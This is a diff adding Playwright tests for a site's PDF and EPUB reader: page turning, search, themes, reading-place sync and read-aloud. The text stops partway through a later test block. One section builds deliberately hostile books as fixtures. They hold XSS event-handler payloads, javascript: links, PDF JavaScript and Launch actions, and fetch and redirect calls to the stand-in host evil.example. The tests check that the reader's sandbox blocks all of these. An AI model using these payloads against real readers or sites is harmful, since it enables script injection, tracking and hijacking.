@@ -1,0 +1,834 @@
+import type { APIRequestContext, Page, Request } from '@playwright/test'
+import { people } from '../people.ts'
+import { makeStoryEpub, makeStoryPdf } from '../reader-books.ts'
+import { beginStorybook, upload } from '../uploading.ts'
+import type { Author } from '../uploading.ts'
+import { logIn, makeMember, somebody } from './member.ts'
+import { expect, expectAccessible, test as base } from './site.ts'
+
+const id = '0193a1b2-0000-7000-8000-00000000000a'
+const address = `/storytellers-lantern/dreams/${id}`
+const title = "Lulu's Prophetic Nap"
+
+const nap = (number: number) =>
+  `On stump ${number} Lulu naps and sees tomorrow, mostly breakfast, with honey or with rain.`
+const naps = (from: number, count: number) =>
+  Array.from({ length: count }, (_, i) => `<p>${nap(from + i * 2)} ${nap(from + i * 2 + 1)}</p>`).join('')
+
+const pdfPages = (count: number) =>
+  Array.from({ length: count }, (_, n) => ({
+    lines: [`Nap ${n + 1}`, ...Array.from({ length: 5 }, (__, i) => `Stump ${n + 1}${'abcde'[i]} is a soft one.`)],
+  }))
+
+const storyPdf = makeStoryPdf({
+  pages: pdfPages(8),
+  outline: [
+    ['Evening', 0],
+    ['Night', 3],
+    ['Breakfast', 6],
+  ],
+})
+const chapters = [
+  ['Evening', `<h1>Evening</h1>${naps(100, 14)}`],
+  ['Night', `<h1>Night</h1>${naps(200, 14)}<p>And then the moonpetal opened.</p>${naps(240, 6)}`],
+  ['Breakfast', `<h1>Breakfast</h1>${naps(300, 10)}`],
+] as const
+const storyEpub = makeStoryEpub({ chapters })
+
+type Book = { file: Buffer; kind: 'pdf' | 'epub' }
+
+/** Puts a file on the shelf that nobody could upload: one that was torn afterwards. */
+async function forge(page: Page, { file, kind }: Book) {
+  const path = `/files/dream_journal_storybooks/tobias/${id}-1.${kind}`
+  await page.route(`**/api/storybooks/${id}`, (route) =>
+    route.fulfill({
+      json: { id, title, author_id: id, file_url: `http://localhost${path}`, created_at: '2025-01-01T00:00:00.000Z' },
+    }),
+  )
+  await page.route(`**${path}`, (route) => route.fulfill({ body: file, contentType: 'application/octet-stream' }))
+}
+
+type Shelf = {
+  /** Uploads a book as its author does, a new edition where there is one. Gives the address it is read at. */
+  put: (book: Book) => Promise<string>
+}
+
+const test = base.extend<Shelf>({
+  put: async ({ request, letterTo, site }, use) => {
+    let begun: Promise<{ author: Author; storybook: string }> | null = null
+    const begin = async () => {
+      const tobias = await makeMember(request, letterTo, somebody(people.tobias))
+      const author = { url: site.url, token: await tokenOf(request, tobias) }
+      return { author, storybook: await beginStorybook(author, title) }
+    }
+    await use(async ({ file, kind }) => {
+      const { author, storybook } = await (begun ??= begin())
+      const answer = await upload(author, storybook, file, { name: `nap.${kind}` })
+      expect(answer.body).toHaveProperty('file_url')
+      return `/storytellers-lantern/dreams/${storybook}`
+    })
+  },
+})
+
+test.describe.configure({ mode: 'parallel' })
+
+async function tokenOf(request: APIRequestContext, person: { email: string; password: string }): Promise<string> {
+  const answer = await request.post('/auth/v1/token?grant_type=password', { data: person })
+  return ((await answer.json()) as { access_token: string }).access_token
+}
+
+const place = (page: Page) => page.locator('.reader-place')
+const frame = (page: Page) => page.frameLocator('.book-frame')
+const tab = (page: Page, name: string) => page.getByRole('toolbar').getByRole('button', { name })
+
+async function open(page: Page, put: Shelf['put'], book: Book) {
+  await page.goto(await put(book))
+  await expect(place(page)).toHaveText(/^Page 1 of \d/)
+}
+
+/** Every request that does not go to the site, and every one that the book's own frame makes beyond its document. */
+function watch(page: Page, home: string) {
+  const wrong: string[] = []
+  page.context().on('request', (request: Request) => {
+    const url = request.url()
+    if (/^(blob|data):/.test(url)) return
+    const isOfBook = request.frame() !== page.mainFrame()
+    if (!url.startsWith(home) || (isOfBook && !/\/assets\/frame-[\w-]+\.html$/.test(url))) wrong.push(url)
+  })
+  return wrong
+}
+
+/** The words that stand on the page of the book which is in view. */
+const wordsInView = (page: Page) =>
+  frame(page)
+    .locator('body')
+    .evaluate((body) => {
+      const isInView = (element: Element) =>
+        [...element.getClientRects()].some(({ left, width }) => left >= 0 && left + width / 2 < innerWidth)
+      return [...body.querySelectorAll('h1, p')]
+        .filter(isInView)
+        .map(({ textContent }) => textContent)
+        .join('\n')
+    })
+
+/** The colored words, in the page or in the book's frame. */
+const marked = (page: Page, kind: 'found' | 'spoken') =>
+  Promise.all(
+    page
+      .frames()
+      .map((one) =>
+        one.evaluate((name) => [...(CSS.highlights.get(name) ?? [])].map(String).join(), kind).catch(() => ''),
+      ),
+  ).then((all) => all.join(''))
+
+test.describe('a PDF', () => {
+  test.use({ viewport: { width: 1280, height: 900 } })
+
+  test('turns like a book: by button, arrows, Home and End, two pages side by side', async ({ page, put, site }) => {
+    const wrong = watch(page, site.url)
+    await open(page, put, { file: storyPdf, kind: 'pdf' })
+    await expect(page).toHaveTitle(`${title} · Constellation Club`)
+    await expect(page.getByRole('heading', { level: 1 })).toHaveText(title)
+    await expect(page.locator('meta[name=robots]')).toHaveAttribute('content', 'noindex')
+    const previous = page.getByRole('button', { name: 'Previous' })
+    const next = page.getByRole('button', { name: 'Next' })
+    await expect(previous).toBeDisabled()
+    await expect(page.getByRole('group', { name: 'Page 1 of 8' })).toContainText('Stump 1a is a soft one.')
+    await expect(page.locator('.pdf-turning')).toBeVisible()
+    await next.click()
+    await expect(place(page)).toHaveText('Pages 2 and 3 of 8')
+    await expect(page.getByRole('group', { name: 'Page 3 of 8' })).toContainText('Stump 3e')
+    await page.keyboard.press('ArrowRight')
+    await expect(place(page)).toHaveText('Pages 4 and 5 of 8')
+    await page.keyboard.press('ArrowLeft')
+    await expect(place(page)).toHaveText('Pages 2 and 3 of 8')
+    await page.keyboard.press('End')
+    await expect(place(page)).toHaveText('Page 8 of 8')
+    await expect(next).toBeDisabled()
+    await page.keyboard.press('Home')
+    await expect(place(page)).toHaveText('Page 1 of 8')
+    await expectAccessible(page)
+    expect(wrong).toEqual([])
+  })
+
+  test('lies open at one page on a phone, and takes less motion for an answer', async ({ page, put }) => {
+    await page.setViewportSize({ width: 390, height: 844 })
+    await page.emulateMedia({ reducedMotion: 'reduce' })
+    await open(page, put, { file: storyPdf, kind: 'pdf' })
+    await page.getByRole('button', { name: 'Next' }).click()
+    await expect(place(page)).toHaveText('Page 2 of 8')
+    await expect(page.locator('.pdf-turning')).toHaveCount(0)
+    await expect(page.locator('.pdf-page')).toHaveCount(1)
+    expect(await page.evaluate(() => document.getAnimations().length)).toBe(0)
+  })
+
+  test('is found by its contents and by words, and the words are marked', async ({ page, put }) => {
+    await open(page, put, { file: storyPdf, kind: 'pdf' })
+    await tab(page, 'Contents').click()
+    await page.getByRole('button', { name: 'Night' }).click()
+    await expect(place(page)).toHaveText('Pages 4 and 5 of 8')
+    await tab(page, 'Contents').click()
+    await expect(page.getByRole('button', { name: 'Night' })).toHaveAttribute('aria-current', 'true')
+    await page.keyboard.press('Escape')
+    await expect(tab(page, 'Contents')).toBeFocused()
+
+    await page.keyboard.press('/')
+    await expect(page.getByRole('searchbox')).toBeFocused()
+    await page.keyboard.type('STUMP 7C')
+    await page.keyboard.press('Enter')
+    await expect(page.getByRole('status').filter({ hasText: 'Found once.' })).toBeVisible()
+    await page.getByRole('button', { name: /Stump 7c is a soft one/ }).click()
+    await expect(place(page)).toHaveText('Pages 6 and 7 of 8')
+    await expect.poll(() => marked(page, 'found')).toBe('Stump 7c')
+    await page.keyboard.press('Escape')
+    await expect.poll(() => marked(page, 'found')).toBe('')
+  })
+
+  test('grows and shrinks in five steps', async ({ page, put }) => {
+    await open(page, put, { file: storyPdf, kind: 'pdf' })
+    const width = () => page.locator('.pdf-room').evaluate((element) => element.clientWidth)
+    const plain = await width()
+    await tab(page, 'Paper').click()
+    const sizes: number[] = []
+    for (const step of [1, 2, 3, 4, 5]) {
+      await page.getByRole('radio', { name: `Step ${step} of 5` }).check({ force: true })
+      sizes.push(await width())
+    }
+    expect(sizes.toSorted((a, b) => a - b)).toEqual(sizes)
+    expect(new Set(sizes).size).toBe(5)
+    expect(Math.abs(sizes[1]! - plain)).toBeLessThan(2)
+  })
+
+  test('shows the first page of 20 MB before the whole file is there', async ({ page, put }) => {
+    const pages = pdfPages(20).map((one) => ({ ...one, picture: 600 }))
+    const file = makeStoryPdf({ pages })
+    expect(file.length).toBeGreaterThan(20_000_000)
+    let bytes = 0
+    page.on('response', (answer) => {
+      if (answer.status() === 206) bytes += Number(answer.headers()['content-length'])
+    })
+    await open(page, put, { file, kind: 'pdf' })
+    await expect(page.getByRole('group', { name: 'Page 1 of 20' })).toContainText('Stump 1a')
+    expect(bytes).toBeGreaterThan(0)
+    expect(bytes).toBeLessThan(file.length / 3)
+  })
+})
+
+test.describe('an EPUB', () => {
+  test.use({ viewport: { width: 1280, height: 900 } })
+
+  test('flows, and is read from end to end by button and key, in the page and in the book', async ({
+    page,
+    put,
+    site,
+  }) => {
+    const wrong = watch(page, site.url)
+    await open(page, put, { file: storyEpub, kind: 'epub' })
+    await expect(frame(page).getByRole('heading', { name: 'Evening' })).toBeVisible()
+    await expect(page.getByRole('button', { name: 'Previous' })).toBeDisabled()
+    await page.getByRole('button', { name: 'Next' }).click()
+    await expect(place(page)).toHaveText(/^Page 2 of \d+ in this part/)
+    await frame(page).locator('body').click()
+    await page.keyboard.press('ArrowLeft')
+    await expect(place(page)).toHaveText(/^Page 1 of/)
+    await page.keyboard.press('End')
+    await expect(place(page)).toHaveText(/100% read$/)
+    await expect(page.getByRole('button', { name: 'Next' })).toBeDisabled()
+    expect(await wordsInView(page)).toContain(nap(319))
+    await page.keyboard.press('Home')
+    await expect(place(page)).toHaveText(/^Page 1 of .* 0% read$/)
+
+    const seen: string[] = []
+    const next = page.getByRole('button', { name: 'Next' })
+    while (await next.isEnabled()) {
+      seen.push(await wordsInView(page))
+      const before = await place(page).textContent()
+      await next.click()
+      await expect(place(page)).not.toHaveText(before ?? '')
+      await page.waitForTimeout(350)
+    }
+    seen.push(await wordsInView(page))
+    for (const number of [100, 127, 200, 251, 300, 319]) expect(seen.join('\n')).toContain(nap(number))
+    await expectAccessible(page)
+    expect(wrong).toEqual([])
+  })
+
+  test('has letters of five sizes and paper of three tones, kept for the next time', async ({ page, put }) => {
+    await open(page, put, { file: storyEpub, kind: 'epub' })
+    await tab(page, 'Paper').click()
+    const letters = () =>
+      frame(page)
+        .locator('p')
+        .first()
+        .evaluate((element) => Number.parseFloat(getComputedStyle(element).fontSize))
+    const paper = () =>
+      frame(page)
+        .locator('html')
+        .evaluate((element) => getComputedStyle(element).backgroundColor)
+    const sizes: number[] = []
+    for (const step of [1, 2, 3, 4, 5]) {
+      await page.getByRole('radio', { name: `Step ${step} of 5` }).check({ force: true })
+      await expect.poll(async () => sizes.includes(await letters())).toBe(false)
+      sizes.push(await letters())
+    }
+    expect(sizes.toSorted((a, b) => a - b)).toEqual(sizes)
+    const papers = new Set<string>()
+    for (const tone of ['Day', 'Sepia', 'Night']) {
+      await page.getByRole('radio', { name: tone }).check({ force: true })
+      await expect.poll(async () => papers.has(await paper())).toBe(false)
+      papers.add(await paper())
+      await expectAccessible(page)
+    }
+    await page.reload()
+    await expect(frame(page).locator('h1')).toBeVisible()
+    expect(await letters()).toBe(sizes[4])
+    expect(papers.has(await paper())).toBe(true)
+    expect(await paper()).toBe('rgb(29, 20, 23)')
+  })
+
+  test('is found by its contents and by words, and the words are marked', async ({ page, put }) => {
+    await open(page, put, { file: storyEpub, kind: 'epub' })
+    await tab(page, 'Contents').click()
+    await page.getByRole('button', { name: 'Breakfast' }).click()
+    await expect(frame(page).getByRole('heading', { name: 'Breakfast' })).toBeVisible()
+    await frame(page).locator('body').click()
+    await page.keyboard.press('/')
+    await expect(page.getByRole('searchbox')).toBeFocused()
+    await page.keyboard.type('moonpetal  opened')
+    await page.keyboard.press('Enter')
+    await page.getByRole('button', { name: /And then the moonpetal opened/ }).click()
+    await expect.poll(() => marked(page, 'found')).toBe('moonpetal opened')
+    await expect.poll(() => wordsInView(page)).toContain('And then the moonpetal opened.')
+    await tab(page, 'Search').click()
+    await page.getByRole('searchbox').fill('a book that is not this one')
+    await page.keyboard.press('Enter')
+    await expect(page.getByText('Not in this book.', { exact: false })).toBeVisible()
+  })
+})
+
+test('an EPUB of fixed pages shows each whole, and turns them one by one', async ({ page, put }) => {
+  await page.setViewportSize({ width: 1280, height: 900 })
+  const file = makeStoryEpub({
+    head: '<meta name="viewport" content="width=1200, height=1600"/><style>h1 { position: absolute; top: 1400px; margin: 0; font-size: 60px }</style>',
+    metadata: '<meta property="rendition:layout">pre-paginated</meta>',
+    chapters: [
+      ['Cover', '<h1>The cover</h1>'],
+      ['Back', '<h1>The back</h1>'],
+    ],
+  })
+  await open(page, put, { file, kind: 'epub' })
+  await expect(place(page)).toHaveText('Page 1 of 2')
+  await expect(frame(page).getByRole('heading', { name: 'The cover' })).toBeInViewport({ ratio: 1 })
+  await page.keyboard.press('ArrowRight')
+  await expect(place(page)).toHaveText('Page 2 of 2')
+  await expect(frame(page).getByRole('heading', { name: 'The back' })).toBeInViewport({ ratio: 1 })
+  await expect(page.getByRole('button', { name: 'Next' })).toBeDisabled()
+})
+
+test('pages turned faster than they move are all turned', async ({ page, put }) => {
+  await page.setViewportSize({ width: 390, height: 844 })
+  await open(page, put, { file: makeStoryEpub({ chapters: [['Evening', naps(100, 60)]] }), kind: 'epub' })
+  for (let turns = 0; turns < 9; turns += 1) await page.keyboard.press('ArrowRight')
+  await expect(place(page)).toHaveText(/^Page 10 of/)
+  await page.waitForTimeout(1000)
+  await expect(place(page)).toHaveText(/^Page 10 of/)
+  const isAligned = () =>
+    frame(page)
+      .locator('html')
+      .evaluate(() => scrollX === 9 * innerWidth)
+  await expect.poll(isAligned).toBe(true)
+})
+
+test('an EPUB that is read from right to left is read to its end', async ({ page, put }) => {
+  const line = (n: number) => `<p>ירח ${n} ישן על הגדם ורואה את מחר, בעיקר ארוחת בוקר, עם דבש או עם גשם.</p>`
+  const body = Array.from({ length: 60 }, (_, n) => line(n)).join('')
+  const head = '<style>body { direction: rtl }</style>'
+  await open(page, put, { file: makeStoryEpub({ head, chapters: [['ערב', body]] }), kind: 'epub' })
+  await expect(frame(page).locator('p').first()).toHaveCSS('direction', 'rtl')
+  const next = page.getByRole('button', { name: 'Next' })
+  while (await next.isEnabled()) {
+    const before = await place(page).textContent()
+    await next.click()
+    await expect(place(page)).not.toHaveText(before ?? '')
+  }
+  await expect.poll(() => wordsInView(page)).toContain('ירח 59')
+})
+
+test.describe('the place', () => {
+  const moonpetal = 'And then the moonpetal opened.'
+
+  async function readToTheMoonpetal(page: Page) {
+    await page.keyboard.press('/')
+    await expect(page.getByRole('searchbox')).toBeFocused()
+    await page.keyboard.type('moonpetal')
+    await page.keyboard.press('Enter')
+    await page.getByRole('button', { name: /moonpetal/ }).click()
+    await expect.poll(() => wordsInView(page)).toContain(moonpetal)
+  }
+  /** This device, once it has noted where the moonpetal opens. */
+  const isNoted = (page: Page) =>
+    expect
+      .poll(() =>
+        page.evaluate(() =>
+          Object.entries(localStorage)
+            .filter(([key]) => key.includes('reading-place'))
+            .join(),
+        ),
+      )
+      .toContain('moonpetal')
+
+  /** The same story after its author has worked on it: more before, another word here and there. */
+  const edition = makeStoryEpub({
+    chapters: [
+      ['Foreword', `<h1>Foreword</h1>${naps(900, 30)}`],
+      ['Afternoon', `<h1>Afternoon</h1>${naps(700, 30)}`],
+      ...chapters.map(([name, body]) => [name, body.replaceAll('Lulu naps', 'Lulu dozes')] as const),
+    ],
+  })
+
+  test('is remembered on this device, and found again in a new edition by its words', async ({ page, put }) => {
+    await open(page, put, { file: storyEpub, kind: 'epub' })
+    await readToTheMoonpetal(page)
+    await isNoted(page)
+    await page.reload()
+    await expect.poll(() => wordsInView(page)).toContain(moonpetal)
+    await put({ file: edition, kind: 'epub' })
+    await page.reload()
+    await expect.poll(() => wordsInView(page)).toContain(moonpetal)
+    expect(await wordsInView(page)).toContain('Lulu dozes')
+  })
+
+  test('in a PDF is found again on whatever page it has moved to', async ({ page, put }) => {
+    await page.setViewportSize({ width: 390, height: 844 })
+    await open(page, put, { file: storyPdf, kind: 'pdf' })
+    for (const number of [2, 3, 4, 5]) {
+      await page.getByRole('button', { name: 'Next' }).click()
+      await expect(place(page)).toHaveText(`Page ${number} of 8`)
+    }
+    await page.waitForTimeout(300)
+    const foreword = Array.from({ length: 6 }, (_, n) => ({ lines: [`Foreword ${n}`, 'It goes on for a while.'] }))
+    await put({ file: makeStoryPdf({ pages: [...foreword, ...pdfPages(8)] }), kind: 'pdf' })
+    await page.reload()
+    await expect(place(page)).toHaveText('Page 11 of 14')
+    await expect(page.getByRole('group', { name: 'Page 11 of 14' })).toContainText('Stump 5a')
+  })
+
+  test('of somebody signed in is the same on all devices, and the newest wins', async ({
+    browser,
+    page,
+    put,
+    request,
+    letterTo,
+    site,
+  }) => {
+    const mara = await makeMember(request, letterTo, somebody(people.mara))
+    const where = await put({ file: storyEpub, kind: 'epub' })
+    await logIn(page, mara)
+    await page.goto(where)
+    await expect(place(page)).toHaveText(/^Page 1 of/)
+    const kept = page.waitForResponse(
+      (answer) => answer.request().method() === 'PUT' && answer.url().endsWith('/place'),
+    )
+    await readToTheMoonpetal(page)
+    expect((await kept).status()).toBe(200)
+
+    const context = await browser.newContext({ baseURL: site.url })
+    const phone = await context.newPage()
+    await phone.addInitScript(() =>
+      addEventListener('app:up', () => document.documentElement.setAttribute('data-awake', '')),
+    )
+    await logIn(phone, mara)
+    await phone.goto(where)
+    await expect.poll(() => wordsInView(phone)).toContain(moonpetal)
+    const keptAgain = phone.waitForResponse((answer) => {
+      const asked = answer.request()
+      return asked.method() === 'PUT' && asked.postData()?.includes('stump 31') === true
+    })
+    await phone.keyboard.press('End')
+    await keptAgain
+    await context.close()
+
+    await page.reload()
+    await expect(place(page)).toHaveText(/100% read$/)
+  })
+})
+
+test.describe('read aloud', () => {
+  /** A voice that says what it is told to, word by word, when the test lets it. */
+  const lendVoice = (page: Page) =>
+    page.addInitScript(() => {
+      const said: string[] = []
+      let now: SpeechSynthesisUtterance | null = null
+      const voice = Object.assign(new EventTarget(), {
+        getVoices: () => [{ name: 'Fizzlet', lang: 'en' }],
+        speak(utterance: SpeechSynthesisUtterance) {
+          said.push(utterance.text)
+          now = utterance
+        },
+        cancel() {
+          now = null
+        },
+      })
+      Object.defineProperty(window, 'speechSynthesis', { value: voice })
+      Object.assign(window, {
+        said,
+        sayWord: (word: string) => {
+          const charIndex = now?.text.indexOf(word) ?? -1
+          now?.dispatchEvent(
+            new SpeechSynthesisEvent('boundary', { utterance: now, name: 'word', charIndex, charLength: word.length }),
+          )
+        },
+        endSentence: () => now?.dispatchEvent(new SpeechSynthesisEvent('end', { utterance: now })),
+      })
+    })
+  const said = (page: Page) => page.evaluate(() => (window as unknown as { said: string[] }).said)
+  const sayWord = (page: Page, word: string) =>
+    page.evaluate((text) => (window as unknown as { sayWord: (word: string) => void }).sayWord(text), word)
+  const endSentence = (page: Page) =>
+    page.evaluate(() => (window as unknown as { endSentence: () => void }).endSentence())
+
+  for (const kind of ['pdf', 'epub'] as const) {
+    test(`a voice reads the ${kind}, the spoken word is marked, and it pauses, goes on and stops`, async ({
+      page,
+      put,
+    }) => {
+      await lendVoice(page)
+      await open(page, put, { file: kind === 'pdf' ? storyPdf : storyEpub, kind })
+      const [heading, first, word] =
+        kind === 'pdf' ? ['Nap 1', 'Stump 1a is a soft one.', 'soft'] : ['Evening', nap(100), 'breakfast']
+      await tab(page, 'Listen').click()
+      await page.getByRole('button', { name: 'Read to me' }).click()
+      await expect.poll(() => said(page)).toEqual([heading])
+      await expect.poll(() => marked(page, 'spoken')).toBe(heading)
+      await endSentence(page)
+      await expect.poll(async () => (await said(page)).at(-1)).toBe(first)
+      await sayWord(page, word)
+      await expect.poll(() => marked(page, 'spoken')).toBe(word)
+      await page.getByRole('button', { name: 'Pause' }).click()
+      await page.getByRole('button', { name: 'Go on' }).click()
+      await expect.poll(async () => (await said(page)).at(-1)).toBe(first.slice(first.indexOf(word)))
+      await page.getByRole('button', { name: 'Stop' }).click()
+      await expect.poll(() => marked(page, 'spoken')).toBe('')
+      await expect(page.getByRole('button', { name: 'Read to me' })).toBeVisible()
+      await expectAccessible(page)
+    })
+  }
+
+  test('is not offered where the browser has no voice', async ({ page, put }) => {
+    await open(page, put, { file: storyEpub, kind: 'epub' })
+    await expect(tab(page, 'Search')).toBeEnabled()
+    await expect(tab(page, 'Listen')).toHaveCount(0)
+  })
+})
+
+test.describe('a link out of the book', () => {
+  test.use({ viewport: { width: 1280, height: 900 } })
+  const leaving = (page: Page) => page.getByRole('dialog', { name: 'This book points out of the library' })
+
+  async function expectTold(page: Page) {
+    await expect(leaving(page)).toContainText('https://elsewhere.example/moth')
+    const way = leaving(page).getByRole('link', { name: 'Open it' })
+    await expect(way).toHaveAttribute('rel', 'noopener noreferrer')
+    await expect(way).toHaveAttribute('target', '_blank')
+    await expect(way).toHaveAttribute('href', 'https://elsewhere.example/moth')
+    await expectAccessible(page)
+    await page.keyboard.press('Escape')
+    await expect(leaving(page)).toHaveCount(0)
+  }
+
+  test('of a PDF shows its address first, and one within leads there', async ({ page, put, site }) => {
+    const wrong = watch(page, site.url)
+    const [cover, ...others] = pdfPages(6)
+    const links = [
+      { rect: [40, 300, 200, 340], action: '/A << /S /URI /URI (https://elsewhere.example/moth) >>' },
+      { rect: [40, 200, 200, 240], action: '/Dest [5 /Fit]' },
+      { rect: [40, 100, 200, 140], action: '/A << /S /URI /URI (javascript:alert\\(1\\)) >>' },
+      { rect: [240, 100, 400, 140], action: '/A << /S /Launch /F (calc.exe) >>' },
+    ] as const
+    await open(page, put, { file: makeStoryPdf({ pages: [{ ...cover!, links }, ...others] }), kind: 'pdf' })
+    await expect(page.locator('.pdf-turning')).toBeVisible()
+    await expect(page.locator('.pdf-page:not([inert]) .pdf-link')).toHaveCount(2)
+    await page.getByRole('button', { name: 'Out of the library' }).click()
+    await expectTold(page)
+    await page.getByRole('button', { name: 'To another page of this book' }).click()
+    await expect(place(page)).toHaveText('Page 6 of 6')
+    expect(wrong).toEqual([])
+  })
+
+  test('of an EPUB shows its address first, and one within leads there', async ({ page, put, site }) => {
+    const wrong = watch(page, site.url)
+    const links = `<p><a href="https://elsewhere.example/moth">a moth</a>, <a href="javascript:parent.x=1">a trap</a>, <a href="c1.xhtml#here">further on</a></p>`
+    const [first, second] = chapters
+    const file = makeStoryEpub({
+      chapters: [
+        ['Evening', links + first[1]],
+        ['Night', `${second[1]}<p id="here">Here it is.</p>`],
+      ],
+    })
+    await open(page, put, { file, kind: 'epub' })
+    await frame(page).getByRole('link', { name: 'a trap' }).click()
+    await frame(page).getByRole('link', { name: 'a moth' }).focus()
+    await page.keyboard.press('Enter')
+    await expectTold(page)
+    await frame(page).getByRole('link', { name: 'further on' }).click()
+    await expect.poll(() => wordsInView(page)).toContain('Here it is.')
+    expect(wrong).toEqual([])
+  })
+})
+
+test.describe('a book that means harm', () => {
+  const evil = 'https://evil.example'
+  const trap = `window.caught=1;fetch('${evil}/f');parent.postMessage('x','*');top.location='${evil}'`
+  const hostile = makeStoryEpub({
+    head: `<script>${trap}</script><script src="${evil}/s.js"></script><base href="${evil}/"/><meta http-equiv="refresh" content="0;url=${evil}/m"/>
+      <link rel="stylesheet" href="${evil}/l.css"/><link rel="prefetch" href="${evil}/p"/><link rel="dns-prefetch" href="//evil.example"/>
+      <style>@import "${evil}/i.css"; body { background: url(${evil}/b.png) } p { background: u\\72l(${evil}/e.png) } @font-face { font-family: x; src: url('${evil}/x.woff2') } p { font-family: x }</style>
+      <link rel="stylesheet" href="own.css"/>`,
+    chapters: [
+      [
+        'Evening',
+        `<h1>Evening</h1><script>${trap}</script>
+        <p onclick="${trap}" style="background:url('${evil}/st.png')">Still a story.</p>
+        <img src="${evil}/t.png" onerror="${trap}" alt="tracker"/><img src="/api/storybooks" alt=""/><img srcset="${evil}/ss.png 2x" alt=""/>
+        <img src="pic.svg" alt="a moth"/>
+        <form action="${evil}/form" method="post"><p>Formless.</p><input name="q" autofocus="autofocus" onfocus="${trap}"/><button>Send</button></form>
+        <iframe src="${evil}/frame"></iframe><iframe srcdoc="&lt;script&gt;${trap}&lt;/script&gt;"></iframe><object data="${evil}/o"></object><embed src="${evil}/em"/>
+        <video src="${evil}/v.mp4" poster="${evil}/po.png" autoplay="autoplay"></video><audio src="${evil}/a.mp3"></audio>
+        <svg xmlns="http://www.w3.org/2000/svg" onload="${trap}"><script>${trap}</script><image xlink:href="${evil}/si.png"/><use href="${evil}/u.svg#x"/><a xlink:href="${evil}/sa"><text y="20">svg</text></a>
+          <rect fill="url(${evil}/fill.svg#f)"/><animate attributeName="href" to="${evil}/an"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}/fo"></iframe></foreignObject></svg>
+        <a href="${evil}/ping" ping="${evil}/pinged">A link.</a><details open="open" ontoggle="${trap}"><summary>More</summary></details>`,
+      ],
+    ],
+    files: [
+      {
+        name: 'own.css',
+        type: 'text/css',
+        content: `@import url("${evil}/own.css"); h1 { color: rgb(1, 2, 3); background: url("${evil}/own.png") }`,
+      },
+      {
+        name: 'pic.svg',
+        type: 'image/svg+xml',
+        content: `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><script>${trap}</script><image href="${evil}/pic.png"/><circle r="20"/></svg>`,
+      },
+    ],
+  })
+
+  test('is read like any other, and runs nothing, sends nothing, asks for nothing', async ({
+    page,
+    put,
+    site,
+    tolerate,
+  }) => {
+    // Said of the unread book, which is taken apart in a document that is shown to nobody.
+    tolerate(/Setting the document's base URI|Executing inline event handler/)
+    const wrong = watch(page, site.url)
+    await open(page, put, { file: hostile, kind: 'epub' })
+    await expect(frame(page).getByText('Still a story.')).toBeVisible()
+    await expect(frame(page).getByRole('heading', { name: 'Evening' })).toHaveCSS('color', 'rgb(1, 2, 3)')
+    expect(
+      await frame(page)
+        .getByAltText('a moth')
+        .evaluate((image: HTMLImageElement) => image.naturalWidth),
+    ).toBe(40)
+    await frame(page).getByText('Still a story.').click()
+    await expect(
+      frame(page).locator('script, iframe, object, embed, form, input, button, base, meta, [onclick], [onload]'),
+    ).toHaveCount(0)
+    await page.waitForTimeout(500)
+    for (const one of page.frames())
+      expect(await one.evaluate(() => (window as { caught?: number }).caught)).toBeUndefined()
+    expect(wrong).toEqual([])
+    await expect(page).toHaveURL(/\/storytellers-lantern\/dreams\//)
+  })
+
+  test('would meet a second wall: its frame has no origin, no storage and no way to any address', async ({
+    page,
+    put,
+    site,
+    tolerate,
+  }) => {
+    tolerate(/Content Security Policy|blocked|Blocked|ERR_BLOCKED|evil\.example|sandboxed|Refused/)
+    const reached: string[] = []
+    await page.route(/evil\.example/, (route) => {
+      reached.push(route.request().url())
+      return route.fulfill({ body: 'reached' })
+    })
+    await open(page, put, { file: storyEpub, kind: 'epub' })
+    const book = page.frames().find((one) => one !== page.mainFrame())!
+    const tries = await book.evaluate(
+      async ([elsewhere, home]) => {
+        const outcome = (attempt: () => unknown) => {
+          try {
+            attempt()
+            return 'let'
+          } catch {
+            return 'refused'
+          }
+        }
+        const image = (src: string) =>
+          new Promise((resolve) => {
+            const picture = new Image()
+            picture.addEventListener('load', () => resolve('let'))
+            picture.addEventListener('error', () => resolve('refused'))
+            picture.src = src
+          })
+        const ran = () => {
+          const script = document.createElement('script')
+          script.text = 'window.ran = 1'
+          document.body.append(script)
+          document.body.insertAdjacentHTML('beforeend', '<details open ontoggle="window.ran = 1">x</details>')
+          return (window as { ran?: number }).ran === undefined ? 'refused' : 'let'
+        }
+        const called = (url: string) =>
+          fetch(url, { mode: 'no-cors' }).then(
+            () => 'let',
+            () => 'refused',
+          )
+        return {
+          origin: window.origin,
+          storage: outcome(() => localStorage.length),
+          cookies: outcome(() => document.cookie),
+          parent: outcome(() => parent.document.title),
+          script: ran(),
+          fetched: await called(`${elsewhere}/f`),
+          fetchedHome: await called(`${home}/api/storybooks`),
+          image: await image(`${elsewhere}/i.png`),
+          imageHome: await image(`${home}/favicon.ico`),
+          opened: String(window.open(`${elsewhere}/w`)),
+        }
+      },
+      ['https://evil.example', site.url] as const,
+    )
+    expect(tries).toEqual({
+      origin: 'null',
+      storage: 'refused',
+      cookies: 'refused',
+      parent: 'refused',
+      script: 'refused',
+      fetched: 'refused',
+      fetchedHome: 'refused',
+      image: 'refused',
+      imageHome: 'refused',
+      opened: 'null',
+    })
+    await book
+      .evaluate((url) => {
+        location.href = url
+      }, 'https://evil.example/away')
+      .catch(() => {})
+    await expect(page.getByRole('heading', { name: 'This book will not open' })).toBeVisible()
+    expect(reached).toEqual([])
+    await expect(page).toHaveURL(/\/storytellers-lantern\/dreams\//)
+  })
+
+  test('as a PDF runs no action and counts no page that is not there', async ({ page, site }) => {
+    const wrong = watch(page, site.url)
+    const catalog =
+      '/OpenAction << /S /JavaScript /JS (app.launchURL\\("https://evil.example"\\); window.caught = 1) >> /AA << /WC << /S /URI /URI (https://evil.example) >> >>'
+    await forge(page, { file: makeStoryPdf({ pages: pdfPages(3), catalog, claims: 1_000_000_000 }), kind: 'pdf' })
+    await page.goto(address)
+    await expect(place(page)).toHaveText(/^Pages? 1.* of /)
+    await expect(page.locator('.pdf-page').first()).toContainText('Stump 1a')
+    expect(await page.evaluate(() => (window as { caught?: number }).caught)).toBeUndefined()
+    expect(await page.locator('.pdf-page').count()).toBeLessThan(200)
+    expect(wrong).toEqual([])
+  })
+})
+
+test.describe('a book that cannot be read says so kindly, and its file can be kept', () => {
+  const torn: readonly [string, Book, string][] = [
+    ['a PDF cut short at its head', { file: storyPdf.subarray(0, 40), kind: 'pdf' }, 'This book will not open'],
